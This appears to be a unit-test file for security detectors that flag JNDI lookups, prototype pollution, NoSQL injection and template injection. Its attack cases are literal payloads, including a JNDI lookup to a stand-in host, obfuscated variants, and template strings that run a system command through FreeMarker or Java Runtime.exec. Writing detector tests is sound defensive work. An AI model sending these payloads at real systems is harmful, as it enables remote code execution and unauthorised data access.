// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are literal "${...}" strings, not templates.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { jndiDetector } from "../src/detectors/jndi/index.js";
import { nosqliDetector } from "../src/detectors/nosqli/index.js";
import { protoPollutionDetector } from "../src/detectors/proto-pollution/index.js";
import { sstiDetector } from "../src/detectors/ssti/index.js";
import type { Detector, InputKind } from "../src/detectors/types.js";
import { BLOCKS, scoreOf } from "./helpers.js";

interface Case {
  readonly value: string;
  readonly kind?: InputKind;
}

function suite(name: string, detector: Detector, attacks: readonly Case[], benign: readonly Case[]): void {
  describe(name, () => {
    for (const { value, kind } of attacks)
      it(`blocks ${value} (${kind ?? "query"})`, () => assert.ok(scoreOf(detector, value, kind) >= BLOCKS));
    for (const { value, kind } of benign)
      it(`lets ${value} through (${kind ?? "query"})`, () => assert.ok(scoreOf(detector, value, kind) < BLOCKS));
  });
}

suite(
  "jndi detector",
  jndiDetector,
  [
    { value: "${jndi:ldap://evil.example/a}" },
    { value: "${${lower:j}${upper:n}${lower:d}i:ldap://x/a}" },
    { value: "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}" },
    { value: "$${env:X:-${env:Y:-$}{jndi:ldap://x/a}}}" },
    { value: "%24%7Bjndi%3Adns%3A%2F%2Fx%7D" },
    { value: "${JnDi:ldap://x}", kind: "header" },
    { value: "$&lcub;\\u006A&#110;di:ldap://x}" },
  ],
  [{ value: "price: ${amount}" }, { value: "$5 {jndi}" }, { value: "use ${HOME} in the shell" }],
);

suite(
  "prototype pollution detector",
  protoPollutionDetector,
  [
    { value: "__proto__", kind: "body-key" },
    { value: "__proto__[admin]", kind: "query-key" },
    { value: "constructor[prototype][admin]", kind: "query-key" },
    { value: "__proto__.polluted=1", kind: "cookie" },
    { value: '{"constructor":{"prototype":{"x":1}}}' },
    { value: "__proto__" },
    { value: "a.__proto__ = 1" },
    { value: "x[__proto__][isAdmin]" },
  ],
  [
    { value: "constructor", kind: "body-key" },
    { value: "the constructor of the prototype" },
    { value: "proto" },
    { value: "__proto__ explained" },
    { value: "what is __proto__ in JavaScript?" },
  ],
);

suite(
  "nosql injection detector",
  nosqliDetector,
  [
    { value: "password[$ne]", kind: "query-key" },
    { value: "$where", kind: "body-key" },
    { value: "$gt", kind: "body-key" },
    { value: "{$gt: ''}" },
    { value: "true, $where: '1 == 1'" },
    { value: "' && this.password.match(/.*/)//" },
    { value: "';return 'a'=='a' && ''=='" },
    { value: "db.users.insert({a:1});" },
    { value: "';sleep(5000);'" },
  ],
  [{ value: "$5 off" }, { value: "price", kind: "body-key" }, { value: "return policy" }, { value: "a && b" }],
);

suite(
  "template injection detector",
  sstiDetector,
  [
    { value: "{{7*7}}" },
    { value: "${7*7}" },
    { value: "<%= 7*7 %>" },
    { value: "#{7*7}" },
    { value: "{{''.__class__.__mro__[1].__subclasses__()}}" },
    { value: "{{config.items()}}" },
    { value: '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}' },
    { value: "{$smarty.version}" },
    { value: "${T(java.lang.Runtime).getRuntime().exec('id')}" },
    // Statement tags: the probe's reply holds 49 and not the tag when the template engine runs it.
    { value: "{% if True %}49{% endif %}" },
    { value: "{%- for x in range(7) -%}{{x}}{% endfor %}" },
    { value: "{% debug %}" },
    { value: "{% import os %}" },
    // ERB and EJS write statements in <% %>.
    { value: "<% if True %>49<% endif %>" },
    { value: "<% for x in 1..7 %><%= x %><% end %>" },
  ],
  [
    { value: "{{name}}" },
    { value: "50% off {today}" },
    { value: "#1 in sales" },
    { value: "email me @ 5pm" },
    { value: "a {b} c" },
    // `{%` that opens no statement: a percentage in braces, an unclosed tag, a word that is not a keyword.
    { value: "{%20 discount%}" },
    { value: "save {% if you buy two" },
    { value: "{% endif %}" },
    { value: "{% verbatim %}" },
    { value: "<% end %>" },
    { value: "100<%" },
    { value: "grew 5<% if you count returns" },
  ],
);
